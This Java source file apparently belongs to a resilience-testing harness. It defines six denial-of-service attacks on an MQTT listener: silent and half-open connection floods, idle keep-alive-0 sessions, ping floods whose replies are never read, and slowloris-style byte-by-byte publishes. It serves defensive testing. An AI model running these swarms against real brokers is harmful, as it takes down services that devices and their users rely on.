package dev.cadastre.proof.denial;

import dev.cadastre.proof.MqttPackets;
import java.util.Arrays;
import java.util.List;
import java.util.function.IntFunction;

/** What a client without credentials, and one with those of a single device, can do to the MQTT listener. */
final class MqttDenial {

    private static final int HALF_OPEN = 1_500;
    private static final int SESSIONS = 300;
    private static final byte[] ONE_BYTE = {'a'};

    /** A publication of 60,000 bytes, of which nothing has come but the length. */
    private static final byte[] LONG_PUBLICATION = {0x32, (byte) 0xe0, (byte) 0xd4, 0x03};

    private MqttDenial() {}

    static List<DenialAttack> all() {
        return List.of(
                DenialAttack.mqtt(
                        "denial-mqtt-silent-connections",
                        "1,500 connections that say nothing",
                        (at, sockets) -> swarm(at, HALF_OPEN, number -> Swarm.NOTHING, Swarm.NOTHING)
                                .run(sockets)),
                DenialAttack.mqtt(
                        "denial-mqtt-silent-addresses",
                        "The same from eight addresses, more connections than the listener has",
                        (at, sockets) -> swarm(at, HALF_OPEN, number -> Swarm.NOTHING, Swarm.NOTHING)
                                .from(8)
                                .run(sockets)),
                DenialAttack.mqtt(
                        "denial-mqtt-half-sent-connect",
                        "1,500 half-sent CONNECT packets",
                        (at, sockets) -> swarm(at, HALF_OPEN, number -> halfConnect(), Swarm.NOTHING)
                                .run(sockets)),
                DenialAttack.mqtt(
                        "denial-mqtt-idle-sessions",
                        "300 sessions of one device with keep-alive 0 that say nothing more",
                        (at, sockets) -> swarm(at, SESSIONS, number -> connect(at, number), Swarm.NOTHING)
                                .run(sockets)),
                DenialAttack.mqtt(
                        "denial-mqtt-unread-answers",
                        "100 sessions of one device that ask 500 times a second each and never read",
                        (at, sockets) -> swarm(at, 100, number -> connect(at, number), pings(100))
                                .thatNeverReads()
                                .run(sockets)),
                DenialAttack.mqtt(
                        "denial-mqtt-trickle",
                        "300 sessions of one device that publish a long message, a byte every 200 ms",
                        (at, sockets) -> swarm(
                                        at, SESSIONS, number -> joined(connect(at, number), LONG_PUBLICATION), ONE_BYTE)
                                .run(sockets)));
    }

    private static Swarm swarm(Installation at, int size, IntFunction<byte[]> opening, byte[] beat) {
        return Swarm.of(size, at.mqttAddress().orElseThrow(), opening, beat);
    }

    private static byte[] connect(Installation at, int number) {
        return MqttPackets.connect(
                "denial-" + number, at.attacker().deviceUser(), at.attacker().deviceSecret(), 0);
    }

    private static byte[] halfConnect() {
        byte[] whole = MqttPackets.connect("denial", "nobody/nothing", "secret", 0);
        return Arrays.copyOf(whole, whole.length / 2);
    }

    private static byte[] pings(int count) {
        byte[] one = MqttPackets.ping();
        byte[] all = new byte[one.length * count];
        for (int i = 0; i < all.length; i++) {
            all[i] = one[i % one.length];
        }
        return all;
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
